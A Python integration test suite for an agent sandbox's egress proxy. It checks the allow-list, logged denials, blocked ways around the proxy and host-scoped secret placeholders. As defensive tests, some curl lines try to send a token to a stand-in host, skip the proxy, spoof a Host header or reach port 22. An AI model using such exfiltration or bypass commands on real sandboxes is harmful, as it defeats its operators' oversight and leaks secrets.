"""Egress through the bundle's proxy, tried from inside the agent."""

from __future__ import annotations

import hashlib
import secrets
import json
from pathlib import Path

import pytest

from .bottles import bottle_cli, bottle_of, resources_of, tcp_probe, write_manifest

pytestmark = pytest.mark.integration


@pytest.fixture
def manifest(tmp_path: Path, outbound_env, internet_egress, monkeypatch) -> Path:
    for key, value in outbound_env.items():
        monkeypatch.setenv(key, value)
    return write_manifest(tmp_path, {
        "bottles": {"web": {"egress": {**internet_egress, "allow": ["allowed.test"]}}},
        "agents": {"surfer": {"bottle": "web"}},
    })


def curl(bottle, *args: str):
    return bottle.exec(["curl", "-sS", "--max-time", "10", *args])


def test_allowlisted_host_answers_over_https(manifest, origin, backend, start):
    with bottle_of(manifest, "surfer", backend=backend, start=start) as bottle:
        result = curl(bottle, "https://allowed.test/")
        assert result.returncode == 0, result.stderr
        assert result.stdout.strip() == b"hello from allowed.test"
        # The TLS session was the bundle's: its CA signed what curl saw, and curl trusted it.
        issuer = bottle.exec("curl -sS -v --max-time 10 https://allowed.test/ 2>&1 >/dev/null | grep -i issuer")
        assert b"CN=bottle bundle CA" in issuer.stdout
    assert [r["path"] for r in origin.requests()] == ["/", "/"]


def test_host_not_on_the_list_is_refused_with_a_reason(manifest, origin, start):
    with bottle_of(manifest, "surfer", start=start) as bottle:
        tls = curl(bottle, "https://denied.test/")
        assert tls.returncode != 0 and b"403" in tls.stderr
        plain = curl(bottle, "-w", "\\n%{http_code}", "http://denied.test/")
        body, code = plain.stdout.rsplit(b"\n", 1)
        assert code == b"403"
        assert b"denied.test" in body and b"allow-list" in body and b"rule not-allowed" in body
        logs = bottle.client.api.logs(bottle.bundle_id).decode()
        events = [json.loads(line) for line in logs.splitlines() if line.startswith("{")]
        denied = [e for e in events if e.get("log") == "egress" and e.get("host") == "denied.test"]
        assert [(e["method"], e["decision"], e["rule"]) for e in denied] == [
            ("CONNECT", "deny", "not-allowed"), ("GET", "deny", "not-allowed")]
    assert origin.requests() == []


def test_no_way_around_the_proxy(manifest, origin, backend):
    with bottle_of(manifest, "surfer", backend=backend) as bottle:
        # Straight to the origin's address, skipping the proxy: there is no route.
        assert not tcp_probe(bottle, origin.ip, 443)
        direct = curl(bottle, "--noproxy", "*", "-k", f"https://{origin.ip}/")
        assert direct.returncode != 0
        # Names do not resolve in the agent (no DNS side channel), though the bundle resolves them.
        assert bottle.exec(["getent", "hosts", "allowed.test"]).returncode != 0
        assert bottle.exec(["getent", "hosts", "api.anthropic.com"]).returncode != 0
        # Only the egress stage resolves; the proxy's user cannot even ask the resolver. (k8s: the test names are
        # the bundle pod's host entries, a file every user reads; no query leaves the pod for them.)
        assert bottle.exec_bundle(["getent", "hosts", "allowed.test"], user="egress").returncode == 0
        if backend != "k8s":
            assert bottle.exec_bundle(["getent", "hosts", "allowed.test"], user="bundle").returncode != 0
        # The proxy's own address cannot be used as a plain relay to the origin's IP either.
        relayed = curl(bottle, "-k", f"https://{origin.ip}/")
        assert relayed.returncode != 0
    assert origin.requests() == []


def test_secrets_are_placeholders_swapped_only_for_their_hosts(tmp_path, outbound_env, internet_egress, monkeypatch,
                                                               origin, start):
    for key, value in outbound_env.items():
        monkeypatch.setenv(key, value)
    real = "real-token-value-never-in-the-bottle"
    monkeypatch.setenv("HOST_TOKEN", real)
    manifest = write_manifest(tmp_path, {
        "bottles": {"web": {"egress": {**internet_egress, "allow": ["allowed.test", "denied.test"]},
                            "secrets": {"TOKEN": {"from_env": "HOST_TOKEN", "hosts": ["allowed.test"],
                                                  "swap_in": ["header", "body"]}}}},
        "agents": {"user": {"bottle": "web"}},
    })
    with bottle_of(manifest, "user", start=start) as bottle:
        token = bottle.exec(["printenv", "TOKEN"]).stdout.strip()
        assert token.startswith(b"bottle-placeholder-") and real.encode() not in token
        sent = curl(bottle, "-H", "Authorization: Bearer $TOKEN".replace("$TOKEN", token.decode()),
                    "https://allowed.test/")
        assert sent.returncode == 0 and sent.stdout.strip() == b"hello from allowed.test"
        posted = curl(bottle, "--data", f"a={token.decode()}&b={token.decode()}", "https://allowed.test/form")
        assert posted.returncode == 0
        leak = curl(bottle, "-w", "\\n%{http_code}", "-H", f"Authorization: Bearer {token.decode()}",
                    "https://denied.test/")
        body, code = leak.stdout.rsplit(b"\n", 1)
        # Content inspection finds the placeholder before the swap would: refused, naming the secret, never its value.
        assert code == b"403" and b"TOKEN" in body and b"rule secret-value" in body and real.encode() not in body
        in_url = curl(bottle, "-w", "\\n%{http_code}", f"https://denied.test/?q={token.decode()}")
        assert in_url.stdout.rsplit(b"\n", 1)[1] == b"403"
    first, form = origin.requests()
    assert (first["headers"].get("host"), first["headers"].get("authorization")) == (
        "allowed.test", "sha256:" + hashlib.sha256(f"Bearer {real}".encode()).hexdigest())
    assert form["path"] == "/form" and form["body"] == f"a={real}&b={real}"


def test_a_declared_secret_without_a_value_fails_before_anything_starts(tmp_path, monkeypatch):
    monkeypatch.delenv("HOST_TOKEN_MISSING", raising=False)
    agent = f"unset-{secrets.token_hex(3)}"  # its own name: other bottles on the engine are not ours to count
    manifest = write_manifest(tmp_path, {
        "bottles": {"web": {"secrets": {"TOKEN": {"from_env": "HOST_TOKEN_MISSING", "hosts": ["allowed.test"]}}}},
        "agents": {agent: {"bottle": "web"}},
    })
    env = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
    assert bottle_cli("trust", "-m", str(manifest), env=env).returncode == 0
    result = bottle_cli("exec", "-m", str(manifest), agent, "--", "true", env=env)
    # A usage error naming the manifest and the field that declares the secret, as a bad field is.
    assert result.returncode == 2, result.stderr
    assert f"{manifest}: bottles.web.secrets.TOKEN.from_env: secret TOKEN: host variable HOST_TOKEN_MISSING".encode() \
        in result.stderr
    assert resources_of("bottle.agent", agent) == ([], [])


def test_bottle_logs_lists_every_decision_after_the_bottle_ended(manifest, origin, tmp_path):
    env = {"XDG_STATE_HOME": str(tmp_path / "state")}
    script = ("c='curl -sS --max-time 10 -o /dev/null'; $c https://allowed.test/a?q=1; $c http://denied.test/; "
              "$c -H 'Host: denied.test' https://allowed.test/; $c https://allowed.test:22/; "
              "$c --proxy https://$(echo $HTTPS_PROXY | cut -d/ -f3) --proxy-insecure https://allowed.test/; true")
    run = bottle_cli("exec", "-m", str(manifest), "surfer", "--", "sh", "-c", script, env=env)
    assert run.returncode == 0, run.stderr
    shown = bottle_cli("logs", "surfer", "--egress", "--json", env=env)
    assert shown.returncode == 0, shown.stderr
    records = [json.loads(line) for line in shown.stdout.decode().splitlines()]
    assert all(r["log"] == "egress" for r in records)
    decisions = [(r["method"], r["host"], r["port"], r["decision"], r["rule"]) for r in records]
    assert decisions == [
        ("CONNECT", "allowed.test", 443, "allow", "allowed.test"),
        ("GET", "allowed.test", 443, "allow", "allowed.test"),
        ("GET", "denied.test", 80, "deny", "not-allowed"),
        ("CONNECT", "allowed.test", 443, "allow", "allowed.test"),
        ("GET", "allowed.test", 443, "deny", "host-mismatch"),
        ("CONNECT", "allowed.test", 22, "deny", "port-not-allowed"),
        ("TLS", "", 8080, "deny", "tls-to-proxy"),  # curl sends no server name for an IP address
    ]
    allowed = records[1]
    assert (allowed["path"], allowed["status"], allowed["bytes_out"]) == ("/a", 200, 0) and allowed["bytes_in"] > 0
    text = bottle_cli("logs", "surfer", env=env).stdout.decode()
    assert "deny  GET http://denied.test/ 403" in text and "rule=not-allowed" in text
    missing = bottle_cli("logs", "nobody-ran-this", env=env)
    assert missing.returncode == 2 and b"nobody-ran-this" in missing.stderr


def test_bottle_logs_follow_streams_while_the_bottle_runs(manifest, origin, tmp_path, monkeypatch):
    import subprocess

    from .bottles import BOTTLE, background_bottle

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    # The bottle makes its request, then waits for the test's go (stdin closed) before it ends.
    script = "curl -sS --max-time 10 http://denied.test/; read _ || true"
    with background_bottle(manifest, "surfer", "sh", "-c", script) as (proc, slug):
        follower = subprocess.Popen([BOTTLE, "logs", slug, "--egress", "--json", "--follow"],
                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        first = follower.stdout.readline()  # arrives while the bottle still runs
        assert proc.poll() is None
        assert json.loads(first)["host"] == "denied.test"
        proc.stdin.close()
        assert proc.wait(timeout=60) == 0
        out, err = follower.communicate(timeout=30)  # the follower ends by itself once the bottle has ended
        assert follower.returncode == 0, err
